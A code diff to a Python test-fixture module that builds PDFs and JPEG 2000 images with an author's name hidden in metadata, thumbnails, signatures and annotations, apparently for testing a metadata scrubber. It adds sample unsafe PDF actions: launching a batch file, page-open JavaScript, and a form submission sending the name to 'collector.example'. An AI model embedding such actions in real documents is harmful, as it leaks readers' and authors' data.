@@ -10,6 +10,7 @@ from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import (
     ArrayObject,
+    ByteStringObject,
     DecodedStreamObject,
     DictionaryObject,
     FloatObject,
@@ -20,6 +21,11 @@ from pypdf.generic import (
 
 AUTHOR = "Somchai-Insider-4711"  # the canary: must not survive an upload
 PAGE_TEXT = "EVIDENCE-PAGE-TEXT"
+COMMENT_DATE = "D:20261120223000+07'00'"  # when and where (time zone) the author was at work
+
+
+def _rect(*values: float) -> ArrayObject:
+    return ArrayObject([FloatObject(v) for v in values])
 
 
 def jpeg_with_exif(size: tuple[int, int] = (24, 16)) -> bytes:
@@ -31,6 +37,23 @@ def jpeg_with_exif(size: tuple[int, int] = (24, 16)) -> bytes:
     out = io.BytesIO()
     image.save(out, "JPEG", exif=exif, comment=AUTHOR.encode(), quality=95)
     return out.getvalue()
+
+
+def jpx_with_metadata(codestream_only: bool = False) -> bytes:
+    """A JPEG 2000 picture whose codestream comment names the author; as a JP2 file it also has
+    an XMP box and a UUID box naming them, the UUID box written with a 64-bit length."""
+    image = Image.new("RGB", (24, 16), (30, 90, 200))
+    out = io.BytesIO()
+    image.save(out, "JPEG2000", no_jp2=codestream_only, comment=f"scanned by {AUTHOR}".encode())
+    data = out.getvalue()
+    if codestream_only:
+        return data
+    codestream_at = data.index(b"jp2c") - 4
+    xml = f"<x:xmpmeta><dc:creator>{AUTHOR}</dc:creator></x:xmpmeta>".encode()
+    extras = (len(xml) + 8).to_bytes(4, "big") + b"xml " + xml
+    uuid = b"\xbe\x7a\xcf\xcb\x97\xa9\x42\xe8\x9c\x71\x99\x94\x91\xe3\xaf\xac" + AUTHOR.encode()
+    extras += (1).to_bytes(4, "big") + b"uuid" + (len(uuid) + 16).to_bytes(8, "big") + uuid
+    return data[:codestream_at] + extras + data[codestream_at:]
 
 
 def _xmp() -> DecodedStreamObject:
@@ -62,16 +85,62 @@ def _attachment(writer: PdfWriter) -> DictionaryObject:
     })
     return DictionaryObject({
         NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
-        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (40, 10, 60, 30)]),
+        NameObject("/Rect"): _rect(40, 10, 60, 30),
         NameObject("/FS"): writer._add_object(spec),
     })
 
 
+def _link(action: dict[str, Any]) -> DictionaryObject:
+    """A link annotation running ``action``; string values are stored as byte strings, as /URI is."""
+    body = DictionaryObject({NameObject(k): NameObject(v) if v.startswith("/") else ByteStringObject(v.encode())
+                             for k, v in action.items()})
+    return DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
+                             NameObject("/Rect"): _rect(100, 100, 120, 110), NameObject("/A"): body})
+
+
+WEB_LINK = " HTTPS://www.example.go.th/evidence"  # schemes are case-insensitive
+UNSAFE_ACTIONS = [
+    {"/S": "/URI", "/URI": f"file:///C:/Users/{AUTHOR}/Documents/memo.docx"},
+    {"/S": "/URI", "/URI": f"javascript:send('{AUTHOR}')"},
+    {"/S": "/Launch", "/F": f"C:\\Users\\{AUTHOR}\\run.bat"},
+    {"/S": "/GoToR", "/F": f"/home/{AUTHOR}/draft.pdf", "/D": "/Start"},
+    {"/S": "/JavaScript", "/JS": f"app.alert('{AUTHOR}')"},
+    {"/S": "/SubmitForm", "/F": f"https://collector.example/{AUTHOR}"},
+]
+
+
+def _more_hiding_places(writer: PdfWriter, page: Any) -> list[Any]:
+    """Annotations and page entries that can carry the author: links opening their files or
+    running code, a web link with a JavaScript follow-up, a page-open script, a thumbnail, and a
+    signature field's signer. Returns the annotations to add to the page."""
+    web = _link({"/S": "/URI", "/URI": WEB_LINK})
+    web[NameObject("/A")][NameObject("/Next")] = writer._add_object(DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(f"send('{AUTHOR}')")}))
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(f"log('{AUTHOR}')")})})
+    thumbnail = _photo(jpeg_with_exif(), NameObject("/DCTDecode"))
+    thumbnail.set_data(thumbnail.get_data() + f"page before blacking out: {AUTHOR}".encode())
+    page[NameObject("/Thumb")] = writer._add_object(thumbnail)
+    signature = DictionaryObject({
+        NameObject("/Type"): NameObject("/Sig"), NameObject("/Filter"): NameObject("/Adobe.PPKLite"),
+        NameObject("/Name"): TextStringObject(AUTHOR), NameObject("/M"): TextStringObject("D:20261120093000+07'00'"),
+        NameObject("/Contents"): ByteStringObject(f"CN={AUTHOR}".encode()),
+        NameObject("/ByteRange"): ArrayObject([NumberObject(v) for v in (0, 10, 20, 30)])})
+    signed = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
+        NameObject("/FT"): NameObject("/Sig"), NameObject("/T"): TextStringObject("Signature1"),
+        NameObject("/Rect"): _rect(150, 10, 190, 30), NameObject("/V"): writer._add_object(signature)})
+    actions = [_link(action) for action in UNSAFE_ACTIONS]
+    return [writer._add_object(a) for a in (web, _link({"/S": "/Named", "/N": "/NextPage"}), *actions, signed)]
+
+
 def revealing_pdf(user_password: str | None = None, owner_password: str | None = None) -> bytes:
-    """One page with text and two photos; the author's name is in the document information, the
-    XMP, the page's XMP and private data, a comment's author (one comment reachable only from its
-    popup), an attached file and its path, and the photos' EXIF, comment and appended trailer
-    (one photo stored plainly, one behind a Flate filter)."""
+    """One page with text, two JPEG and two JPEG 2000 photos. The author's name is in the
+    document information, the XMP, the page's XMP, private data, thumbnail and page-open script,
+    a comment's author and name (one comment reachable only from its popup), an attached file and
+    its path, links to their files and programs and a script following a web link, a signature's
+    signer, the JPEGs' EXIF, comment and appended trailer (one JPEG stored plainly, one behind a
+    Flate filter), and the JPEG 2000 comment, XMP and UUID boxes."""
     writer = PdfWriter()
     page = writer.add_blank_page(200, 200)
     trailing = jpeg_with_exif() + f"second frame by {AUTHOR}".encode()
@@ -81,8 +150,10 @@ def revealing_pdf(user_password: str | None = None, owner_password: str | None =
     font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                              NameObject("/BaseFont"): NameObject("/Helvetica")})
     page[NameObject("/Resources")] = DictionaryObject({
-        NameObject("/XObject"): DictionaryObject({NameObject("/Im1"): writer._add_object(photo),
-                                                  NameObject("/Im2"): writer._add_object(flated)}),
+        NameObject("/XObject"): DictionaryObject({
+            NameObject("/Im1"): writer._add_object(photo), NameObject("/Im2"): writer._add_object(flated),
+            NameObject("/Im3"): writer._add_object(_photo(jpx_with_metadata(), NameObject("/JPXDecode"))),
+            NameObject("/Im4"): writer._add_object(_photo(jpx_with_metadata(True), NameObject("/JPXDecode")))}),
         NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)}),
     })
     content = DecodedStreamObject()
@@ -93,17 +164,19 @@ def revealing_pdf(user_password: str | None = None, owner_password: str | None =
         NameObject("/Private"): TextStringObject(AUTHOR)})})
     comment = DictionaryObject({
         NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
-        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
+        NameObject("/Rect"): _rect(10, 10, 30, 30),
         NameObject("/T"): TextStringObject(AUTHOR), NameObject("/Contents"): TextStringObject("see page 2"),
+        NameObject("/NM"): TextStringObject(f"{AUTHOR}-5f2c"), NameObject("/M"): TextStringObject(COMMENT_DATE),
+        NameObject("/CreationDate"): TextStringObject(COMMENT_DATE),
     })
     hidden_comment = writer._add_object(DictionaryObject({
         NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
-        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 5, 5)]), NameObject("/T"): TextStringObject(AUTHOR)}))
+        NameObject("/Rect"): _rect(0, 0, 5, 5), NameObject("/T"): TextStringObject(AUTHOR)}))
     popup = DictionaryObject({
         NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Popup"),
-        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 5, 5)]), NameObject("/Parent"): hidden_comment})
+        NameObject("/Rect"): _rect(0, 0, 5, 5), NameObject("/Parent"): hidden_comment})
     page[NameObject("/Annots")] = ArrayObject([writer._add_object(comment), writer._add_object(_attachment(writer)),
-                                               writer._add_object(popup)])
+                                               writer._add_object(popup), *_more_hiding_places(writer, page)])
     writer.add_metadata({"/Author": AUTHOR, "/Creator": f"Word ({AUTHOR})", "/Title": "report"})
     writer.root_object[NameObject("/Metadata")] = writer._add_object(_xmp())
     if user_password is not None or owner_password is not None:
@@ -159,6 +232,13 @@ def certificate_locked_pdf() -> bytes:
     """Encrypted for certificate holders (Adobe.PubSec), which pypdf cannot open."""
     return _handmade({**_PAGE, 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>",
                       4: b"<</Filter/Adobe.PubSec/V 4/R 4>>"}, trailer=b"/Encrypt 4 0 R/ID[<00><00>]")
+
+
+def stray_signature_pdf() -> bytes:
+    """A signature value that no signature field holds, referred to from a page."""
+    signature = b"<</Type/Sig/ByteRange[0 1 2 3]/Name(%s)/Reason(by %s)/Contents<%s>>>" % (
+        AUTHOR.encode(), AUTHOR.encode(), AUTHOR.encode().hex().encode())
+    return _handmade({**_PAGE, 3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Junk 4 0 R>>", 4: signature})
 
 
 def pdf_hiding_objects(count: int) -> bytes:
